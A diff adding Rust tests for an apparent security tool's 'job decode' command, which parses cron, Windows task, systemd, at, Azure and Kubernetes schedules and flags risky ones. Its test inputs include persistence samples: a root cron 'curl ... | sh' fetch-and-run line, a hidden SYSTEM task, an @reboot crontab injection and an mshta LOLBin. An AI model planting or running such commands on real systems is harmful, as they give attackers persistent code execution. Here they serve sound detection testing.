@@ -1,0 +1,129 @@
+//! `watchbell job`: what is decoded, how it is printed, how it ends.
+
+use crate::support::{Lab, ran};
+use serde_json::Value;
+
+const NOW: &str = "2026-11-25T00:21:00Z";
+
+fn decode(lab: &Lab, input: &str, more: &[&str]) -> Vec<Value> {
+    let run = lab.run(&[&["job", "decode", "--now", NOW, input], more].concat());
+    assert_eq!(run.code, 0, "{input}: {}", run.err);
+    run.alerts()
+}
+
+/// Checks one job's values, as `pointer = text`.
+fn check(input: &str, more: &[&str], expected: &[(&str, &str)]) {
+    let jobs = decode(&Lab::new(), input, more);
+    assert_eq!(jobs.len(), 1, "{input}: {jobs:?}");
+    for (pointer, wanted) in expected {
+        let seen = jobs[0].pointer(pointer).map(|value| value.as_str().map_or_else(|| value.to_string(), str::to_owned)).unwrap_or_default();
+        assert_eq!(&seen, wanted, "{input}: {pointer} of {:#}", jobs[0]);
+    }
+}
+
+const XML: &str = r"<?xml version='1.0'?><Task xmlns='http://schemas.microsoft.com/windows/2004/02/mit/task'><RegistrationInfo><URI>\Updater</URI></RegistrationInfo>
+  <Triggers><CalendarTrigger><StartBoundary>2026-11-01T09:00:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>
+  <Principals><Principal><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals><Settings><Hidden>true</Hidden></Settings>
+  <Actions><Exec><Command>C:\Users\Public\x.exe</Command></Exec></Actions></Task>";
+
+#[test]
+fn every_kind_of_definition_is_known_by_its_content() {
+    check(
+        XML,
+        &["--tz", "W. Europe Standard Time"],
+        &[("/kind", "windows_task"), ("/next/0", "2026-11-25T08:00:00Z"), ("/risk/0/reason", "hidden"), ("/risk/2/reason", "user-writable path")],
+    );
+    check("schtasks /create /tn a /tr b.exe /sc onlogon", &[], &[("/name", "a"), ("/next", "[]"), ("/when", "at each logon of any user")]);
+    check(
+        "*/5 * * * * root curl -s http://192.0.2.1/x | sh",
+        &[],
+        &[("/principal", "root"), ("/command", "curl -s http://192.0.2.1/x | sh"), ("/next/0", "2026-11-25T00:25:00Z")],
+    );
+    check("*/5 * * * * python3 /tmp/x.py", &[], &[("/principal", "null"), ("/command", "python3 /tmp/x.py")]);
+    check("*/5 * * * * root /tmp/x", &["--user", "alice"], &[("/principal", "alice"), ("/command", "root /tmp/x")]);
+    check(
+        "[Timer]\nOnCalendar=03:00\n[Service]\nExecStart=/bin/x\n",
+        &[],
+        &[("/kind", "systemd_timer"), ("/command", "/bin/x"), ("/next/0", "2026-11-25T03:00:00Z")],
+    );
+    check(
+        "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\n/tmp/x\n",
+        &[],
+        &[("/kind", "at"), ("/command", "/tmp/x"), ("/principal", "uid 1000")],
+    );
+    check("echo /tmp/x | at now + 5 minutes", &[], &[("/next/0", "2026-11-25T00:26:00Z")]);
+    check("systemd-run --on-active=30 /bin/x", &[], &[("/kind", "systemd_run"), ("/next/0", "2026-11-25T00:21:30Z")]);
+    check("(crontab -l; echo '@reboot /dev/shm/a') | crontab -", &[], &[("/tool", "crontab"), ("/when", "at each boot")]);
+    check("Register-ScheduledTask -TaskName t -Action (New-ScheduledTaskAction -Execute mshta.exe)", &[], &[("/name", "t"), ("/risk/0/reason", "LOLBin")]);
+}
+
+#[test]
+fn clouds_and_clusters_are_known_by_their_keys() {
+    let schedule =
+        r#"{"name":"nightly","properties":{"frequency":"Day","interval":1,"startTime":"2026-11-01T02:00:00+00:00","timeZone":"UTC","isEnabled":true}}"#;
+    check(schedule, &[], &[("/kind", "azure_schedule"), ("/name", "nightly"), ("/next/0", "2026-11-25T02:00:00Z")]);
+    let link = r#"{"properties":{"runbook":{"name":"drop"},"schedule":{"name":"nightly"}}}"#;
+    check(link, &[], &[("/kind", "azure_schedule"), ("/command", "runbook drop")]);
+    let deed = r#"{"operationName":"MICROSOFT.AUTOMATION/AUTOMATIONACCOUNTS/WEBHOOKS/WRITE","resourceId":"/subscriptions/s/webhooks/hook","properties":{}}"#;
+    check(deed, &[], &[("/kind", "azure_webhook"), ("/name", "hook")]);
+    let manifest = "apiVersion: batch/v1\nkind: CronJob\nmetadata: {name: sync, namespace: prod}\nspec:\n  schedule: '*/10 * * * *'\n  timeZone: Asia/Tokyo\n  \
+                    jobTemplate: {spec: {template: {spec: {containers: [{name: a, image: alpine, command: [sh, -c, id]}]}}}}\n";
+    check(manifest, &[], &[("/kind", "cronjob"), ("/name", "prod/sync"), ("/next/0", "2026-11-25T00:30:00Z")]);
+    let lab = Lab::new();
+    let two = format!("{manifest}---\n{}", manifest.replace("sync", "other"));
+    assert_eq!(decode(&lab, &two, &[]).len(), 2);
+    assert_eq!(decode(&lab, &format!("[{schedule},{link}]"), &[]).len(), 2);
+}
+
+#[test]
+fn files_folders_and_standard_input_are_read() {
+    let lab = Lab::new();
+    let wide: Vec<u8> = [0xFF, 0xFE].into_iter().chain(XML.encode_utf16().flat_map(u16::to_le_bytes)).collect();
+    lab.write("Tasks/Updater", wide);
+    lab.write("Tasks/deeper/Other", XML);
+    lab.write("etc/cron.d/health", "SHELL=/bin/sh\n# m h\n* * * * * nobody nice /x\nnonsense\n");
+    lab.write("units/a.timer", "[Timer]\nOnBootSec=5min\n");
+    lab.write("units/a.service", "[Service]\nExecStart=/opt/a\n");
+    assert_eq!(decode(&lab, "Tasks", &[]).len(), 2);
+    assert_eq!(decode(&lab, "etc/cron.d/health", &[])[0]["principal"], "nobody");
+    let timer = &decode(&lab, "units/a.timer", &[])[0];
+    assert_eq!((&timer["name"], &timer["command"]), (&"a.timer".into(), &"/opt/a".into()));
+    let stdin = ran(lab.command().args(["job", "decode", "-"]).write_stdin("@daily /bin/x\n"));
+    assert_eq!((stdin.code, stdin.alerts().len()), (0, 1), "{}", stdin.err);
+    assert!(lab.run(&["job", "decode", "etc/cron.d/health"]).err.contains("line 4"));
+}
+
+#[test]
+fn a_table_fits_a_terminal() {
+    let lab = Lab::new();
+    let long = format!("schtasks /create /tn {} /tr \"powershell -c {} \u{202e}\u{1b}[31m\" /sc daily /st 09:00", "n".repeat(300), "word ".repeat(400));
+    for (tz, clock) in [("UTC", "Wed 2026-11-25 09:00 UTC  in 8 h 39 min"), ("Europe/Berlin", "Wed 2026-11-25 09:00 +01:00 (08:00 UTC)  in 7 h 39 min")] {
+        let table = lab.run(&["job", "decode", "--format", "table", "--now", NOW, "--tz", tz, &long]);
+        assert!(table.out.contains(clock), "{}", table.out);
+        let widest = table.out.lines().map(|line| line.chars().count()).max().unwrap_or_default();
+        assert!(widest <= 80 && table.out.lines().count() < 60, "{widest}\n{}", table.out);
+        assert!(!table.out.contains(['\u{1b}', '\u{202e}']));
+    }
+    let json: Value = serde_json::from_str(&lab.run(&["job", "decode", "--format", "json", "@daily /x"]).out).unwrap();
+    assert_eq!(json.as_array().unwrap().len(), 1);
+}
+
+#[test]
+fn it_ends_as_other_commands_do() {
+    let lab = Lab::new();
+    lab.write("empty", "");
+    lab.write("bad.xml", "<html></html>");
+    for (args, code) in [
+        (&["ls -la"][..], 2),
+        (&["missing.xml"], 3),
+        (&["empty"], 2),
+        (&["bad.xml"], 2),
+        (&["@daily /x", "--tz", "Mars/Olympus"], 3),
+        (&["@daily /x", "--now", "noon"], 3),
+        (&[], 3),
+    ] {
+        let run = lab.run(&[&["job", "decode"], args].concat());
+        assert_eq!(run.code, code, "{args:?}: {} {}", run.out, run.err);
+        assert!(run.out.is_empty() && !run.err.is_empty(), "{args:?}");
+    }
+}
